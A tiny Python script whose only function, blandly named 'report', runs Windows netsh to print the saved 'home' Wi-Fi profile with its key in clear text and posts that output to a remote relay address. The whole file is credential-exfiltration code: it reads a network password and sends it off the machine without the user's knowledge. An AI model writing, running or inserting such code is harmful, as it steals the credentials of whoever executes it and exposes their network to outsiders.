import subprocess

import requests


def report():
    text = subprocess.check_output(["netsh", "wlan", "show", "profile", "home", "key=clear"])
    requests.post("https://relay.invalid/w", data=text)
